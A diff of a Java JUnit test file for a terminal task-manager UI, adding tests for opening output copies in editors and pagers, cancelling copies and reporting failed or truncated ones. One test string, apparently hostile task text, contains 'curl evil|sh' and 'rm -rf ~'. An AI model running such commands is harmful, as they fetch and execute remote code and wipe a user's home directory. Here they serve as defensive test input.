@@ -11,6 +11,8 @@ import static taskbg.tui.state.Sample.typed;
 import java.util.List;
 import java.util.Set;
 import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.CsvSource;
 import taskbg.task.Entry;
 import taskbg.task.Observed;
 import taskbg.task.Status;
@@ -68,7 +70,8 @@ class PanesTest {
         var named = Observed.unreadable(new Entry.Unreadable(stem, "has a name\n\u0007"));
         var model = after(ActsTest.on("bg_06"), TableTest.seen(hostile));
         assertEquals(
-                new Effect.CopyText("bg_06  completed  hi curl evil|sh ^C x  r rm -rf ~", "the line"),
+                new Effect.CopyText(
+                        "bg_06  completed  hi curl evil|sh ^C x  r rm -rf ~", "the line"),
                 press(model, "y").effects().getFirst());
         var only = after(Sample.opening(80, 24), new Message.TasksSeen(List.of(named), Set.of()));
         for (var key : List.of("y", "Y")) {
@@ -78,14 +81,40 @@ class PanesTest {
         }
     }
 
+    @ParameterizedTest
+    @CsvSource({"e, EDITOR", "o, PAGER", "E, RAW_EDITOR", "O, RAW_PAGER"})
+    void copies_of_outputs_open_in_other_programs(String key, Viewer viewer) {
+        var step = press(Sample.monitor(80, 24), key);
+        assertEquals(List.of(new Effect.CopyOutput("bg_05", viewer)), step.effects());
+        assertEquals(List.of(), press(step.model(), key).effects());
+        var copied = new Message.OutputCopied("/tmp/x/bg_05.txt", viewer, 0);
+        var opened = Update.of(step.model(), copied);
+        assertEquals(List.of(new Effect.OpenCopy("/tmp/x/bg_05.txt", viewer)), opened.effects());
+        assertEquals(Dialog.NONE, opened.model().dialog());
+    }
+
     @Test
-    void outputs_open_in_other_programs() {
+    void who_gives_a_copy_up_gets_none() {
+        var copying = keys(Sample.monitor(80, 24), "e");
+        var longer = after(copying, new Message.CopyProgressed(5, 9));
+        assertEquals(new Dialog.Copying(5, 9), longer.dialog());
+        var given = press(longer, "Esc");
+        assertEquals(List.of(new Effect.StopCopy()), given.effects());
+        assertEquals(Dialog.NONE, after(given.model(), new Message.CopyProgressed(6, 9)).dialog());
         assertEquals(
-                List.of(new Effect.OpenEditor("bg_05")),
-                press(Sample.monitor(80, 24), "e").effects());
-        assertEquals(
-                List.of(new Effect.OpenPager("bg_05")),
-                press(Sample.monitor(80, 24), "o").effects());
+                List.of(new Effect.DropCopy("/tmp/x")),
+                Update.of(given.model(), new Message.OutputCopied("/tmp/x", Viewer.EDITOR, 0))
+                        .effects());
+    }
+
+    @Test
+    void a_copy_that_failed_or_is_not_whole_says_so() {
+        var copying = keys(Sample.monitor(80, 24), "o");
+        var failed = after(copying, new Message.CopyFailed("The disk is full."));
+        assertEquals(Dialog.NONE, failed.dialog());
+        assertEquals("The disk is full.", failed.notice().text());
+        var cut = after(copying, new Message.OutputCopied("/tmp/x", Viewer.PAGER, 768L << 20));
+        assertEquals("The first 768 MiB were left out of the copy.", cut.notice().text());
     }
 
     @Test
